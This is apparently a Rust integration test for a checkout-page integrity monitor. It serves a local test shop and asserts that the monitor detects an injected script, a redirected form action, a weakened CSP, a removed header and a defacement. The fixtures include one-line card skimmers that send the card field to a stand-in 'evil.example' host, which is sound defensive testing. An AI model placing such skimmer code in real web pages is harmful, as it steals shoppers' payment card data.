//! The payment-page monitor against a real local HTTP server serving a test shop: a skimmer
//! injected into checkout, a changed form action, a weakened CSP, a removed header and a defaced
//! home page are each found with their evidence; an authorised script stops alerting; a script
//! changed after its authorisation alerts again.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use axum::extract::{Path, State};
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::response::IntoResponse;
use chrono::{DateTime, Duration, Utc};
use ensuresec_integrity::pages::authz::{Authorization, Authorizations};
use ensuresec_integrity::pages::config::PageMonitorConfig;
use ensuresec_integrity::pages::fetch::Fetcher;
use ensuresec_integrity::pages::inventory::sha256_hex;
use ensuresec_integrity::pages::scan::scan_page;
use ensuresec_integrity::pages::store::PageStore;
use ensuresec_model::event::{PageChange, PageChangeKind};

/// A page: its headers and HTML.
type Page = (Vec<(&'static str, String)>, String);

/// What the shop serves: per page its headers and HTML, per script its code.
#[derive(Default)]
struct Shop {
    pages: HashMap<String, Page>,
    scripts: HashMap<String, String>,
}

type Shared = Arc<Mutex<Shop>>;

async fn page(State(shop): State<Shared>, Path(name): Path<String>) -> impl IntoResponse {
    let shop = shop.lock().unwrap();
    match shop.pages.get(&name) {
        Some((headers, html)) => {
            let mut h = HeaderMap::new();
            for (k, v) in headers {
                h.insert(*k, HeaderValue::from_str(v).unwrap());
            }
            h.insert("content-type", HeaderValue::from_static("text/html"));
            (StatusCode::OK, h, html.clone()).into_response()
        }
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

async fn script(State(shop): State<Shared>, Path(name): Path<String>) -> impl IntoResponse {
    match shop.lock().unwrap().scripts.get(&name) {
        Some(code) => (StatusCode::OK, code.clone()).into_response(),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

const CSP: &str =
    "default-src 'self'; script-src 'self' https://js.psp.example; frame-ancestors 'none'";

fn checkout(extra_script: &str, action: &str) -> String {
    format!(
        r#"<!doctype html><html><head><title>Checkout</title>
        <script src="/js/app.js"></script>{extra_script}</head>
        <body><h1>Checkout</h1><p>Your basket: running shoes, 49.00 EUR.</p>
        <form action="{action}" method="post"><input name="card"><button>Pay now</button></form>
        <footer>Terms Privacy Contact</footer></body></html>"#
    )
}

fn home(text: &str) -> String {
    format!(
        "<!doctype html><html><body><header><nav><a href=/>Home</a><a href=/shoes>Shoes</a></nav></header>\
         <main><h1>Spring sale</h1><p>{text}</p><ul><li>Running shoes</li><li>Trail shoes</li>\
         <li>Socks</li></ul></main><footer>Terms Privacy Contact</footer></body></html>"
    )
}

struct Fixture {
    shop: Shared,
    base: String,
    store: PageStore,
    fetcher: Fetcher,
    settings: PageMonitorConfig,
    _dir: tempfile::TempDir,
}

impl Fixture {
    async fn start() -> Fixture {
        let shop: Shared = Arc::default();
        {
            let mut s = shop.lock().unwrap();
            s.scripts
                .insert("app.js".into(), "document.title = 'shop';".into());
            s.pages.insert(
                "checkout".into(),
                (
                    vec![
                        ("content-security-policy", CSP.into()),
                        ("x-frame-options", "DENY".into()),
                    ],
                    checkout("", "/pay"),
                ),
            );
            s.pages.insert(
                "home".into(),
                (vec![], home("Twenty per cent off every pair until Sunday.")),
            );
        }
        let app = axum::Router::new()
            .route("/p/{name}", axum::routing::get(page))
            .route("/js/{name}", axum::routing::get(script))
            .with_state(shop.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        let dir = tempfile::tempdir().unwrap();
        let settings = PageMonitorConfig::default();
        Fixture {
            shop,
            store: PageStore::new(dir.path()),
            fetcher: Fetcher::new(&settings).unwrap(),
            settings,
            base,
            _dir: dir,
        }
    }

    fn url(&self, name: &str) -> String {
        format!("{}/p/{name}", self.base)
    }

    async fn scan(&self, name: &str, at: DateTime<Utc>) -> Vec<PageChange> {
        scan_page(
            &self.store,
            &self.fetcher,
            &self.settings,
            &self.url(name),
            Some("shop"),
            at,
        )
        .await
        .unwrap()
    }

    fn authorize(&self, script: &str, code: &str) {
        let mut a = Authorizations::load(self.store.dir()).unwrap();
        a.authorize(Authorization {
            script: script.into(),
            sha256: sha256_hex(code.as_bytes()),
            justification: "the shop's own checkout code".into(),
            by: "test".into(),
            at: t0(),
        })
        .unwrap();
        a.save(self.store.dir()).unwrap();
    }
}

fn t0() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-12-04T10:00:00Z")
        .unwrap()
        .to_utc()
}

fn kinds(changes: &[PageChange]) -> Vec<PageChangeKind> {
    changes.iter().map(|c| c.change).collect()
}

#[tokio::test]
async fn each_tampering_is_found_with_its_evidence() {
    let f = Fixture::start().await;
    let app_js = format!("{}/js/app.js", f.base);
    f.authorize(&app_js, "document.title = 'shop';");

    // First fetch: the record; the authorised script raises nothing.
    let first = f.scan("checkout", t0()).await;
    assert!(first.is_empty(), "{first:?}");
    assert!(f.scan("home", t0()).await.is_empty());

    // A skimmer injected into checkout.
    let skimmer = format!(r#"<script src="{}/js/skim.js"></script>"#, f.base);
    {
        let mut s = f.shop.lock().unwrap();
        s.scripts.insert(
            "skim.js".into(),
            "document.forms[0].onsubmit=()=>fetch('https://evil.example/c?'+card.value)".into(),
        );
        s.pages.get_mut("checkout").unwrap().1 = checkout(&skimmer, "/pay");
    }
    let t1 = t0() + Duration::seconds(300);
    let found = f.scan("checkout", t1).await;
    assert_eq!(
        kinds(&found),
        vec![PageChangeKind::ScriptAdded],
        "{found:?}"
    );
    let e = &found[0].evidence;
    assert_eq!(e["src"], format!("{}/js/skim.js", f.base));
    assert_eq!(
        e["sha256"],
        sha256_hex(b"document.forms[0].onsubmit=()=>fetch('https://evil.example/c?'+card.value)")
    );
    assert_eq!(found[0].asset.as_deref(), Some("shop"));

    // Unauthorised, it keeps alerting once the reminder is due, not before.
    assert!(
        f.scan("checkout", t1 + Duration::seconds(60))
            .await
            .is_empty()
    );
    let later = f.scan("checkout", t1 + Duration::seconds(3600)).await;
    assert_eq!(kinds(&later), vec![PageChangeKind::ScriptUnauthorized]);

    // Skimmer code appended to the authorised script: changed against its authorisation.
    f.shop.lock().unwrap().scripts.insert(
        "app.js".into(),
        "document.title = 'shop'; new Image().src='https://evil.example/?'+card.value".into(),
    );
    let t2 = t1 + Duration::seconds(3700);
    let changed = f.scan("checkout", t2).await;
    let c = changed
        .iter()
        .find(|c| c.change == PageChangeKind::ScriptChanged)
        .unwrap_or_else(|| panic!("{changed:?}"));
    assert_eq!(
        c.evidence["sha256_before"],
        sha256_hex(b"document.title = 'shop';")
    );
    assert_eq!(
        c.evidence["authorized_sha256"],
        sha256_hex(b"document.title = 'shop';")
    );

    // The form now posts elsewhere, and the CSP lets inline code and a new host in.
    {
        let mut s = f.shop.lock().unwrap();
        s.scripts
            .insert("app.js".into(), "document.title = 'shop';".into());
        let page = s.pages.get_mut("checkout").unwrap();
        page.1 = checkout(&skimmer, "https://collect.evil.example/pay");
        page.0 = vec![(
            "content-security-policy",
            "default-src 'self'; script-src 'self' https://js.psp.example 'unsafe-inline' https://cdn.evil.example".into(),
        )];
    }
    let t3 = t2 + Duration::seconds(60);
    let found = f.scan("checkout", t3).await;
    let form = found
        .iter()
        .find(|c| c.change == PageChangeKind::FormAction)
        .unwrap_or_else(|| panic!("{found:?}"));
    assert_eq!(form.evidence["origin"], "https://collect.evil.example");
    assert_eq!(
        form.evidence["actions_before"][0],
        format!("{}/pay", f.base)
    );
    let csp = found
        .iter()
        .find(|c| c.change == PageChangeKind::CspWeakened)
        .unwrap_or_else(|| panic!("{found:?}"));
    let w = &csp.evidence["weakening"];
    assert_eq!(w["removed_directives"][0], "frame-ancestors");
    assert_eq!(w["risky"][0], "script-src: 'unsafe-inline'");
    assert!(
        w["added_sources"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s == "script-src: https://cdn.evil.example"),
        "{w}"
    );
    assert_eq!(csp.evidence["before"], CSP);
    let header = found
        .iter()
        .find(|c| c.change == PageChangeKind::HeaderChanged)
        .unwrap_or_else(|| panic!("{found:?}"));
    assert_eq!(header.evidence["header"], "x-frame-options");
    assert_eq!(header.evidence["before"], "DENY");
    assert!(
        !found.iter().any(|c| c.change == PageChangeKind::Defacement),
        "an action and a script are no defacement: {found:?}"
    );
    // Reported once: the next fetch of the same page raises none of these again.
    let again = f.scan("checkout", t3 + Duration::seconds(60)).await;
    assert!(
        again
            .iter()
            .all(|c| c.change == PageChangeKind::ScriptUnauthorized),
        "{again:?}"
    );

    // The skimmer, once authorised (say it were a real PSP script), stops alerting.
    f.authorize(
        &format!("{}/js/skim.js", f.base),
        "document.forms[0].onsubmit=()=>fetch('https://evil.example/c?'+card.value)",
    );
    let quiet = f.scan("checkout", t3 + Duration::seconds(7200)).await;
    assert!(quiet.is_empty(), "{quiet:?}");

    // The home page defaced; a small price change before is not.
    f.shop.lock().unwrap().pages.get_mut("home").unwrap().1 =
        home("Twenty-five per cent off every pair until Sunday.");
    assert!(f.scan("home", t1).await.is_empty());
    f.shop.lock().unwrap().pages.get_mut("home").unwrap().1 =
        "<html><body><h1>HACKED BY n0b0dy</h1><marquee>greetz to all crews</marquee></body></html>"
            .into();
    let defaced = f.scan("home", t2).await;
    assert_eq!(kinds(&defaced), vec![PageChangeKind::Defacement]);
    let s = &defaced[0].evidence["similarity"];
    assert!(s["text"].as_f64().unwrap() < 0.5, "{s}");
    assert_eq!(defaced[0].evidence["threshold"], 0.5);
    assert!(
        defaced[0].evidence["text"]
            .as_str()
            .unwrap()
            .contains("HACKED"),
        "{}",
        defaced[0].evidence
    );
}

#[tokio::test]
async fn an_unreachable_page_is_an_error_naming_it() {
    let f = Fixture::start().await;
    let e = scan_page(
        &f.store,
        &f.fetcher,
        &f.settings,
        "http://127.0.0.1:1/checkout",
        None,
        t0(),
    )
    .await
    .unwrap_err();
    assert!(e.to_string().contains("127.0.0.1:1/checkout"), "{e}");
}
